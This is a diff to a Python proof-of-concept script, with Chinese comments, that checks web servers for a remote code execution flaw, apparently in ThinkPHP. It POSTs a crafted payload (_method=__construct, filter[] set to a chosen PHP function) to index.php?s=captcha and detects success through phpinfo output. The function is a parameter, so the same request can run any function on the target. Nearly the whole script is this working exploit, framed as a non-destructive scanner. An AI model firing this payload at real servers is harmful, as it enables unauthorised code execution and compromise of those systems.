@@ -3,20 +3,32 @@ import textwrap
 
 import requests
 
+try:
+    # 在框架内运行时复用共享的连接池
+    from utils.http_client import get_http_client
+    http = get_http_client()
+except ImportError:
+    http = requests.Session()
+
 requests.packages.urllib3.disable_warnings()
 
 
-def main(url, func="phpinfo"):
+def verify(url, func="phpinfo", timeout=5):
+    """非破坏性检测, 只调用 phpinfo 判断是否存在漏洞, 请求失败时抛出异常"""
     full_url = f"{url}/index.php?s=captcha"
     headers = {"Cache-Control": "max-age=0", "Upgrade-Insecure-Requests": "1",
                "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/103.0.0.0 Safari/537.36",
                "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.9",
-               "Accept-Encoding": "gzip, deflate", "Accept-Language": "zh-CN,zh;q=0.9,ja;q=0.8", "Connection": "close",
+               "Accept-Encoding": "gzip, deflate", "Accept-Language": "zh-CN,zh;q=0.9,ja;q=0.8", "Connection": "keep-alive",
                "Content-Type": "application/x-www-form-urlencoded"}
     data = {"_method": "__construct", "filter[]": f"{func}", "method": "get", "server[REQUEST_METHOD]": "-1"}
+    response = http.post(full_url, headers=headers, data=data, allow_redirects=False, verify=False, timeout=timeout)
+    return response.status_code == 200 and "PHP Extension Build " in response.text
+
+
+def main(url, func="phpinfo"):
     try:
-        response = requests.post(full_url, headers=headers, data=data, allow_redirects=False, verify=False, timeout=5)
-        if response.status_code == 200 and "PHP Extension Build " in response.text:
+        if verify(url, func):
             print(f"[+]{url}存在远程代码执行漏洞")
         else:
             print(f"[-]{url}不存在远程代码执行漏洞")